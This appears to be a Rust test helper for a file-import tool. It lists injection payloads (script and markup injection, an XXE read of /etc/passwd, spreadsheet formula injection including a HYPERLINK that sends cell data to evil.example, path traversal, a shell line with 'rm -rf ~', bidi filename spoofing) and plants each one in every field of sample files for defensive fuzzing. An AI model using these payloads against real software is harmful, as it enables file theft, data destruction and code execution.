//! Payloads, and files that carry them: every field of a small valid file holds every payload in turn.

use floodmark::import::timestamp;
use floodmark::model::Reading;
use std::ops::Range;

/// What somebody who wants harm puts where a name or a message should be, by what it attacks.
pub const PAYLOADS: [&str; 28] = [
    // Markup and script.
    "<script>window.__pwned=1</script>",
    "<img src=x onerror=window.__pwned=1>",
    "\"><svg/onload=window.__pwned=1>",
    "' onmouseover='window.__pwned=1' x='",
    "</title></style></textarea></script><iframe srcdoc=\"&lt;script&gt;parent.__pwned=1&lt;/script&gt;\">",
    "]]><!-- --><?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
    "&lt;script&gt;&#106;avascript:alert(1)&#x202e;",
    "[press](javascript:window.__pwned=1) ![x](https://evil.example/x.png) <https://evil.example>",
    "https://evil.example/ www.evil.example \\[x\\]: javascript:alert(1)",
    "{{7*7}}{% for x in range(9) %}x{% endfor %}{# floodmark template: report #}${7*7}",
    // Formulas.
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"press\")",
    "=cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+9)*cmd|'/C calc'!A0",
    "'=1+1",
    // Paths, names of devices, shells.
    "../../../../etc/passwd",
    "..\\..\\C:\\Windows\\win.ini",
    "/etc/cron.d/x",
    "'; rm -rf ~; $(touch /tmp/pwned) `id` \"",
    // Lines that begin something of their own.
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nATTACH:https://evil.example/\r\n",
    "\n# Heading\n\n- item\n\n| a | b |\n|---|---|\n```\n",
    // Directions of writing.
    "invoice\u{202E}gpj.exe",
    "\u{2066}\u{202D}admin\u{2069} // \u{202E} begin \u{2067}",
    "\u{200F}\u{05D0}\u{05D1}\u{05D2} 10:30\u{200E} (\u{061C}12)",
    // What XML and terminals do not have, and what stands beside letters.
    "\u{1B}]0;x\u{7}\u{1}\u{8}\u{B}\u{FFFE}\u{FFFF}\u{85}\u{2028}\u{FEFF}",
    "\u{E000}summary\u{E001}a\u{0301}\u{0301}\u{0301}\u{200B}\u{00AD}",
    "WWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWW",
];

/// A small valid file with the reading that opens it.
pub struct Small {
    /// How it is read.
    pub reading: Reading,
    /// What it holds.
    pub text: String,
}

/// How a file keeps its fields apart.
#[derive(Clone, Copy, PartialEq)]
enum Form {
    Json,
    Table(char),
    Words,
}

/// A place in a file that holds a value.
#[derive(Clone)]
pub struct Field {
    at: Range<usize>,
    /// Whether a time stands in it: with a payload there, its row is refused.
    pub is_time: bool,
    form: Form,
}

/// The form of a file: JSON begins like it, a table has the same separator several times in its first line.
fn form(text: &str) -> Form {
    let start = text.trim_start();
    if start.starts_with('{') || start.starts_with("[{") || start.starts_with("[\n") {
        return Form::Json;
    }
    // The first lines: above a table may be a title.
    let often = |c: &char| text.lines().take(4).any(|line| line.matches(*c).count() >= 2);
    match ['\t', '|', ';', ','].iter().find(|c| often(c)) {
        Some(c) if !start.starts_with(['#', '[']) && !start.contains(" HTTP/1.1\"") => Form::Table(*c),
        _ => Form::Words,
    }
}

/// The fields of a file: strings and names of JSON, cells of a table, words of anything else.
pub fn fields(text: &str) -> Vec<Field> {
    let form = form(text);
    let places = match form {
        Form::Json => strings(text),
        Form::Table(separator) => cells(text, separator),
        Form::Words => words(text),
    };
    let field = |at: Range<usize>| {
        let inside = &text[at.clone()];
        let is_time = timestamp::parse(inside.trim_matches('"').trim()).is_ok();
        Field { at, is_time, form }
    };
    places.into_iter().map(field).collect()
}

/// The strings of a text in JSON with their quotes, also where the text breaks off.
fn strings(text: &str) -> Vec<Range<usize>> {
    let (mut found, mut open, mut escaped) = (vec![], None, false);
    for (at, c) in text.char_indices() {
        match (open, c) {
            (Some(_), _) if escaped => escaped = false,
            (Some(_), '\\') => escaped = true,
            (Some(from), '"') => {
                found.push(from..at + 1);
                open = None;
            }
            (None, '"') => open = Some(at),
            _ => {}
        }
    }
    found
}

/// The cells of a table with their quotes.
fn cells(text: &str, separator: char) -> Vec<Range<usize>> {
    let (mut found, mut from, mut quoted) = (vec![], 0, false);
    for (at, c) in text.char_indices() {
        match c {
            '"' => quoted = !quoted,
            c if !quoted && (c == separator || c == '\n') => {
                found.push(from..at - usize::from(text[..at].ends_with('\r')));
                from = at + 1;
            }
            _ => {}
        }
    }
    found.push(from..text.len());
    found.retain(|at| at.start <= at.end);
    found
}

fn words(text: &str) -> Vec<Range<usize>> {
    let mut found = vec![];
    let mut from = None;
    for (at, c) in text.char_indices().chain([(text.len(), ' ')]) {
        match (from, c.is_whitespace()) {
            (None, false) => from = Some(at),
            (Some(start), true) => {
                found.push(start..at);
                from = None;
            }
            _ => {}
        }
    }
    found
}

/// The file with a payload in one of its fields, written as its format writes it.
pub fn with(text: &str, field: &Field, payload: &str) -> String {
    let written = match field.form {
        Form::Json => serde_json::Value::from(payload).to_string(),
        Form::Table(_) => format!("\"{}\"", payload.replace('"', "\"\"")),
        Form::Words => payload.to_owned(),
    };
    format!("{}{written}{}", &text[..field.at.start], &text[field.at.end..])
}
